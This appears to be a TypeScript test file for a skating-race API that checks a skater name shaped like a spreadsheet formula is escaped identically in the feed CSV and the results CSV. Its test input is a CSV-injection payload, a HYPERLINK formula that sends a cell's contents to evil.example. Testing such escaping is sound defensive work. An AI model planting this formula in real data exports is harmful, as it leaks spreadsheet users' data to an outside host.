// CSV formulas over HTTP (issue 17): a skater named like a formula comes out of the feed CSV
// (/api/v1/feed/*.csv) neutralized exactly as the results CSV writes him.
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startApi, type ApiFixture } from '../../support/api-server.ts';

let api: ApiFixture;
beforeEach(async () => {
  api = await startApi();
});
afterEach(() => api.close());

const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/** A CSV the server sends, read back as objects by its header row. */
async function csv(path: string): Promise<Record<string, string>[]> {
  const response = await fetch(`${api.server.url}${path}`, {
    headers: { authorization: `Bearer ${api.tokens.view}` },
  });
  expect(response.status).toBe(200);
  const text = (await response.text()).replace(/^\uFEFF/, '');
  return Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
}

describe('the feed CSV and the results CSV', () => {
  it('neutralize a skater named like a formula the same way', async () => {
    const renamed = await api.call('/api/v1/commands', {
      body: { type: 'skater/edited', bib: 4, name: formula },
    });
    expect(renamed.status).toBe(200);
    const feed = (await csv('/api/v1/feed/active.csv')).find((row) => row.helmet === '4')!;
    const results = (await csv(`/api/v1/races/${api.raceId}/results.csv`)).find(
      (row) => row.Helmet === '4',
    )!;
    expect(feed.name).toBe(`'${formula}`);
    expect(results.Name).toBe(feed.name);
    expect(results['Last name']).toBe(feed.lastName);
  });
});
